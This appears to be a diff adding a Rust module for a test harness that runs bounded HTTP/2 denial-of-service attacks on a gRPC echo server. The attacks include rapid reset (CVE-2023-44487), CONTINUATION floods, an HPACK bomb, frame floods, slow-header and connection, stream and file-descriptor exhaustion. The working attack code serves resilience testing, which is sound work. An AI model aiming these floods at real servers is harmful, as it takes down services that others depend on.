@@ -1,0 +1,309 @@
+//! The attacks. Each is bounded in count and time, and returns what the server did and
+//! what it holds open (connections the attack keeps while the normal client calls).
+
+use std::any::Any;
+use std::sync::atomic::Ordering;
+use std::time::Duration;
+use tokio::io::AsyncWriteExt;
+use tokio::net::TcpStream;
+
+use crate::conn::Conn;
+use crate::frames::*;
+
+pub type Held = Box<dyn Any + Send>;
+pub type Outcome = Result<(String, Held), String>;
+
+const ECHO: &str = "/echo.TestService/Echo";
+const ECHO_CLIENT: &str = "/echo.TestService/EchoClient";
+const ECHO_SERVER: &str = "/echo.TestService/EchoServer";
+
+/// The attacks in the order they run: (name, what it does).
+pub const ALL: &[(&str, &str)] = &[
+    (
+        "rapid-reset",
+        "10,000 server-streaming calls, each reset at once (CVE-2023-44487)",
+    ),
+    (
+        "continuation-flood",
+        "HEADERS without END_HEADERS, then 16 KiB CONTINUATIONs, up to 16 MiB",
+    ),
+    (
+        "hpack-bomb",
+        "a 4 KiB header indexed once, referenced 1,000 times per block, 100 blocks",
+    ),
+    ("settings-flood", "50,000 SETTINGS frames"),
+    ("ping-flood", "50,000 PINGs, their answers never read"),
+    ("empty-data-flood", "50,000 empty DATA frames on one stream"),
+    (
+        "window-overflow",
+        "WINDOW_UPDATEs past 2^31-1 on the connection",
+    ),
+    (
+        "zero-window-streams",
+        "SETTINGS_INITIAL_WINDOW_SIZE=0, 2,000 server streams of 100,000 x 64 B, held",
+    ),
+    (
+        "stream-flood",
+        "5,000 bidi streams opened on one connection and held",
+    ),
+    (
+        "half-preface",
+        "1,000 connections that send half the preface, held",
+    ),
+    (
+        "slow-headers",
+        "100 connections sending a request's HEADERS a byte every 50 ms, held",
+    ),
+    ("connection-flood", "3,000 idle HTTP/2 connections, held"),
+    (
+        "fd-exhaustion",
+        "a server limited to 1,024 open files, 2,000 half-preface connections, held",
+    ),
+];
+
+/// The open-file limit an attack's server runs with (`None`: the machine's).
+pub fn nofile(attack: &str) -> Option<u32> {
+    (attack == "fd-exhaustion").then_some(1024)
+}
+
+pub async fn run(name: &str, addr: &str) -> Outcome {
+    match name {
+        "rapid-reset" => rapid_reset(addr).await,
+        "continuation-flood" => continuation_flood(addr).await,
+        "hpack-bomb" => hpack_bomb(addr).await,
+        "settings-flood" => flood(addr, frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).await,
+        "ping-flood" => flood(addr, frame(PING, 0, 0, &[7; 8])).await,
+        "empty-data-flood" => empty_data_flood(addr).await,
+        "window-overflow" => window_overflow(addr).await,
+        "zero-window-streams" => zero_window_streams(addr).await,
+        "stream-flood" => stream_flood(addr).await,
+        "half-preface" => half_preface(addr).await,
+        "slow-headers" => slow_headers(addr).await,
+        "connection-flood" => connection_flood(addr).await,
+        "fd-exhaustion" => fd_exhaustion(addr).await,
+        other => Err(format!("no attack {other}")),
+    }
+}
+
+fn io(e: std::io::Error) -> String {
+    e.to_string()
+}
+
+/// Sends `frames` in batches of `batch` until all went or the server closed: how many went.
+async fn send_all(c: &Conn, frames: impl Iterator<Item = Vec<u8>>, batch: usize) -> usize {
+    let mut buf = Vec::new();
+    let (mut n, mut queued) = (0, 0);
+    for f in frames {
+        buf.extend(f);
+        queued += 1;
+        if queued == batch {
+            if !c.send(&buf).await {
+                return n;
+            }
+            n += queued;
+            buf.clear();
+            queued = 0;
+        }
+    }
+    if queued > 0 && c.send(&buf).await {
+        n += queued;
+    }
+    n
+}
+
+async fn settle(c: &Conn) {
+    // Time for the server to act on what it read, and for its frames to arrive.
+    let _ = c.closed_within(Duration::from_millis(500)).await;
+}
+
+fn held(c: Conn) -> Held {
+    Box::new(c)
+}
+
+async fn rapid_reset(addr: &str) -> Outcome {
+    let c = Conn::open(addr, &[]).await.map_err(io)?;
+    let body = envelope(&echo_request(&[7; 16], 1000));
+    let calls = (0..10_000u32).map(|i| {
+        let id = 1 + 2 * i;
+        let mut f = open_call(id, ECHO_SERVER);
+        f.extend(frame(DATA, END_STREAM, id, &body));
+        f.extend(rst_stream(id, CANCEL));
+        f
+    });
+    let n = send_all(&c, calls, 100).await;
+    settle(&c).await;
+    Ok((format!("{n} sent; {}", c.outcome()), held(c)))
+}
+
+async fn continuation_flood(addr: &str) -> Outcome {
+    let c = Conn::open(addr, &[]).await.map_err(io)?;
+    let mut first = frame(HEADERS, 0, 1, &request_block(ECHO));
+    let mut block = Vec::new();
+    while block.len() < 16 * 1024 - 64 {
+        literal(&mut block, b"x-flood", &[b'a'; 100]);
+    }
+    first.extend(frame(CONTINUATION, 0, 1, &block));
+    c.send(&first).await;
+    let n = send_all(&c, (0..1024).map(|_| frame(CONTINUATION, 0, 1, &block)), 16).await;
+    settle(&c).await;
+    Ok((format!("{n} CONTINUATIONs sent; {}", c.outcome()), held(c)))
+}
+
+async fn hpack_bomb(addr: &str) -> Outcome {
+    let c = Conn::open(addr, &[]).await.map_err(io)?;
+    let blocks = (0..100u32).map(|i| {
+        let mut b = request_block(ECHO);
+        if i == 0 {
+            // Into the dynamic table as entry 62; each later block refers to it.
+            literal_indexed(&mut b, b"x-bomb", &[b'b'; 4000]);
+        }
+        for _ in 0..1000 {
+            hpack_int(&mut b, 0x80, 7, 62);
+        }
+        frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, &b)
+    });
+    let n = send_all(&c, blocks, 10).await;
+    settle(&c).await;
+    Ok((format!("{n} blocks sent; {}", c.outcome()), held(c)))
+}
+
+async fn flood(addr: &str, f: Vec<u8>) -> Outcome {
+    let c = Conn::open(addr, &[]).await.map_err(io)?;
+    let n = send_all(&c, (0..50_000).map(|_| f.clone()), 1000).await;
+    settle(&c).await;
+    Ok((format!("{n} sent; {}", c.outcome()), held(c)))
+}
+
+async fn empty_data_flood(addr: &str) -> Outcome {
+    let c = Conn::open(addr, &[]).await.map_err(io)?;
+    c.send(&open_call(1, ECHO_CLIENT)).await;
+    let n = send_all(&c, (0..50_000).map(|_| frame(DATA, 0, 1, &[])), 1000).await;
+    settle(&c).await;
+    Ok((format!("{n} sent; {}", c.outcome()), held(c)))
+}
+
+async fn window_overflow(addr: &str) -> Outcome {
+    let c = Conn::open(addr, &[]).await.map_err(io)?;
+    let mut f = window_update(0, 0x7fff_ffff);
+    f.extend(window_update(0, 0x7fff_ffff));
+    c.send(&f).await;
+    settle(&c).await;
+    Ok((c.outcome(), held(c)))
+}
+
+async fn zero_window_streams(addr: &str) -> Outcome {
+    let c = Conn::open(addr, &[(SETTINGS_INITIAL_WINDOW_SIZE, 0)])
+        .await
+        .map_err(io)?;
+    // The requests are small and go 50 at a time, a few ms apart: within the windows the
+    // server grants (HTTP/2's first 65,535 bytes, then its WINDOW_UPDATEs), so that the
+    // attack keeps to flow control itself and only the answers stall.
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    let body = envelope(&echo_request(&[7; 64], 100_000));
+    let mut n = 0;
+    for batch in 0..40u32 {
+        let mut f = Vec::new();
+        for i in 0..50 {
+            let id = 1 + 2 * (batch * 50 + i);
+            f.extend(open_call(id, ECHO_SERVER));
+            f.extend(frame(DATA, END_STREAM, id, &body));
+        }
+        if !c.send(&f).await {
+            break;
+        }
+        n += 50;
+        tokio::time::sleep(Duration::from_millis(5)).await;
+    }
+    // The handlers run until their sends wait for a window that never opens.
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    Ok((format!("{n} opened; {}", c.outcome()), held(c)))
+}
+
+async fn stream_flood(addr: &str) -> Outcome {
+    let c = Conn::open(addr, &[]).await.map_err(io)?;
+    let n = send_all(&c, (0..5000u32).map(|i| open_call(1 + 2 * i, ECHO)), 100).await;
+    settle(&c).await;
+    Ok((format!("{n} opened; {}", c.outcome()), held(c)))
+}
+
+async fn half_preface(addr: &str) -> Outcome {
+    let mut conns = Vec::new();
+    for _ in 0..1000 {
+        let mut t = TcpStream::connect(addr).await.map_err(io)?;
+        t.write_all(&PREFACE[..12]).await.map_err(io)?;
+        conns.push(t);
+    }
+    Ok(("1000 held".into(), Box::new(conns)))
+}
+
+async fn slow_headers(addr: &str) -> Outcome {
+    let mut conns = Vec::new();
+    for _ in 0..100 {
+        conns.push(Conn::open(addr, &[]).await.map_err(io)?);
+    }
+    // The SETTINGS exchange first: its ACK must not land inside a frame sent a byte at a
+    // time.
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let headers = open_call(1, ECHO);
+    // Two seconds of one byte every 50 ms on every connection; the normal client then
+    // calls while they are still open, half-way through their HEADERS.
+    for b in headers.iter().take(40) {
+        for c in &conns {
+            c.send(std::slice::from_ref(b)).await;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    let closed: Vec<String> = conns
+        .iter()
+        .filter(|c| c.seen.closed.load(Ordering::Relaxed))
+        .map(|c| c.outcome())
+        .collect();
+    Ok((
+        format!("{} of 100 closed by the server {closed:?}", closed.len()),
+        Box::new(conns),
+    ))
+}
+
+async fn connection_flood(addr: &str) -> Outcome {
+    let mut conns = Vec::new();
+    let mut refused = 0;
+    for _ in 0..3000 {
+        match Conn::open(addr, &[]).await {
+            Ok(c) => conns.push(c),
+            Err(_) => refused += 1,
+        }
+    }
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let closed = conns
+        .iter()
+        .filter(|c| c.seen.closed.load(Ordering::Relaxed))
+        .count();
+    Ok((
+        format!("{} held, {closed} closed, {refused} refused", conns.len()),
+        Box::new(conns),
+    ))
+}
+
+async fn fd_exhaustion(addr: &str) -> Outcome {
+    // Connected at once, each within a bound: past the server's file limit, connections
+    // wait in its listen backlog, and past the backlog connect itself waits.
+    let tries = (0..2000).map(|_| {
+        let addr = addr.to_owned();
+        tokio::spawn(async move {
+            let t = tokio::time::timeout(Duration::from_secs(3), TcpStream::connect(&addr));
+            let mut t = t.await.ok()?.ok()?;
+            t.write_all(&PREFACE[..12]).await.ok()?;
+            Some(t)
+        })
+    });
+    let mut conns = Vec::new();
+    for t in tries.collect::<Vec<_>>() {
+        if let Ok(Some(c)) = t.await {
+            conns.push(c);
+        }
+    }
+    Ok((
+        format!("{} of 2000 connected", conns.len()),
+        Box::new(conns),
+    ))
+}
